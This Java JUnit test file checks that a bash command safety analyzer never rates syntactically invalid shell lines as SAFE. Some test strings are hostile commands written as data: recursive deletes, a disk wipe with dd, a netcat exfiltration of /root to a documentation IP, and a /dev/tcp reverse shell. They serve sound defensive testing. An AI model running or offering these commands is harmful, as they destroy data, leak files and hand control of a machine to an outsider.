package io.clituner.guardrails;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.clituner.core.RiskLevel;
import io.clituner.core.SafetyLevel;
import io.clituner.core.analysis.Verdict;
import io.clituner.guardrails.parse.BashParser;
import io.clituner.guardrails.parse.ParseException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A line bash itself rejects is never SAFE: the parser must reject it too (it then yields {@code parse.error}).
 * Each case below was checked against {@code bash -n} (GNU bash 5.2) reading the line as a script.
 */
class ParseErrorVerdictTest {
    private static final BashCommandAnalyzer ANALYZER = new BashCommandAnalyzer();

    @ParameterizedTest(name = "bash rejects: {0}")
    @ValueSource(
            strings = {
                // reserved words where a command must start
                "]]",
                "]] ls",
                "in",
                "in ls",
                "ls; ]]",
                "ls | ]]",
                "echo x && ]] y",
                "ls; in",
                "ls | in",
                "echo x && in y",
                "]] sudo rm -rf /var/*",
                "in dd if=/dev/zero of=/dev/vda",
                "(in)",
                "{ ls; ]] }",
                "if ]]; then :; fi",
                "ls 2>&1 |& in",
                // '!' only starts a pipeline
                "ls | !",
                "ls | ! cat",
                "tar cf - /root | ! nc 198.51.100.4 9001",
                // a final backslash continues the line into the end of input
                "<\\",
                "ls | \\",
                "ls > \\",
                "ls &&\\",
                // a redirection whose target bash reads as the next redirection
                "cat < 2>x",
                "cat < 22>x",
                "cat <<2>x",
                "bash -i > /dev/tcp/203.0.113.99/9001 << 0<&1 2>&1"
            })
    void bashRejectedLinesAreNeverSafe(String line) {
        assertThrows(line);
        for (SafetyLevel level : SafetyLevel.values()) {
            Verdict v = ANALYZER.analyze(line, level);
            assertNotEquals(RiskLevel.SAFE, v.risk(), level + ": " + line);
            assertTrue(
                    v.ruleIds().contains("parse.error") || v.ruleIds().contains("analysis.limit"),
                    line + " " + v.ruleIds());
        }
    }

    @ParameterizedTest(name = "bash accepts: {0}")
    @ValueSource(
            strings = {
                "echo ]]",
                "x=1 ]]",
                "x=1 in",
                "echo in",
                "for i in a b; do echo $i; done",
                "[[ -f x ]] && ls",
                "echo \\",
                "ls foo\\",
                "ls && ! cat x",
                "! ls",
                "time ls | time cat",
                "cat <2 >x",
                "cat < \"2\">x",
                "cat 1< 2",
                "case x in in) echo in;; esac",
                "ls | !x"
            })
    void neighboursBashAcceptsStayParseable(String line) throws ParseException {
        new BashParser(line, 96).parse();
        assertFalse(ANALYZER.analyze(line, SafetyLevel.STRICT).ruleIds().contains("parse.error"), line);
    }

    @ParameterizedTest(name = "continued: {0}")
    @ValueSource(strings = {"rm -rf /\\", "rm -rf / \\"})
    void aFinalBackslashIsALineContinuation(String line) {
        assertEquals(
                RiskLevel.DANGEROUS, ANALYZER.analyze(line, SafetyLevel.STRICT).risk(), line);
    }

    private static void assertThrows(String line) {
        try {
            new BashParser(line, 96).parse();
        } catch (ParseException e) {
            return;
        }
        throw new AssertionError("parser accepted a line bash rejects: " + line);
    }
}
